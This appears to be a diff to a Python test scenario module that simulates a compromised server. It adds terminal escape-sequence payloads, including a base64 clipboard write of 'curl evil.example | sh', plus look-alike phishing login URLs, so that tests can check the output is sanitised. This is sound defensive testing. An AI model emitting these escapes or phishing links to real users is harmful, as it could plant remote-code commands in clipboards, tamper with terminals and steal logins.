@@ -12,6 +12,9 @@ class DemoScenario:
     `node_version=""` means Node.js is not installed (so neither is npm, and codex cannot run).
     `pace` scales every simulated delay (npm install, time to the URL, token exchange): tests
     pass a small value, screenshots and people keep 1.0.
+    `hostile` makes the server act compromised: codex's lines, the tools' versions, `uname`,
+    port owners' names, auth.json's fields and sshd's refusals carry HOSTILE's escapes, and
+    codex prints look-alike login links (tests prove none of it reaches the terminal raw).
     """
 
     codex_installed: bool = True
@@ -22,6 +25,7 @@ class DemoScenario:
     logged_in: bool = True
     token_exchange_fails: bool = False
     saves_no_login: bool = False  # codex says "Successfully logged in" but writes no auth.json
+    hostile: bool = False
     pace: float = 1.0
 
 
@@ -38,3 +42,18 @@ CODEX_VERSION = "0.169.0"
 CODEX_VERSION_LINE = f"codex-cli {CODEX_VERSION}"
 BUSY_PORT_HOLDER = ("python3", 2211)
 """Who holds 1455 in the port_1455_busy scenario (a stray `python3 -m http.server 1455`)."""
+HOSTILE = (
+    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\"  # OSC 52: set the clipboard (ST)
+    "\x1b]0;owned\x07"  # OSC 0: the window title (BEL)
+    "\x1bP+q544e\x1b\\"  # DCS: ask the terminal itself
+    "\x9b2J\x9d0;t\x9c"  # 8-bit CSI (clear screen), 8-bit OSC and ST
+    "\x1b[31m\u202e\x07\x08\x7f\x85"  # colour, bidi override, BEL, BS, DEL, NEL
+)
+"""What the hostile scenario's server adds to every string it sends."""
+HOSTILE_PORT_HOLDER = ("node" + HOSTILE, 3131)
+"""Who holds 1457 in the hostile scenario: a process named with escapes."""
+HOSTILE_LOGIN_URL = (
+    "https://auth.openai.com.evil.example/oauth/authorize?response_type=code"
+    "&redirect_uri=http%3A%2F%2F127.0.0.1%3A1455%2Fauth%2Fcallback"
+)
+HOSTILE_DEVICE_URL = "https://evil.example/codex/device"
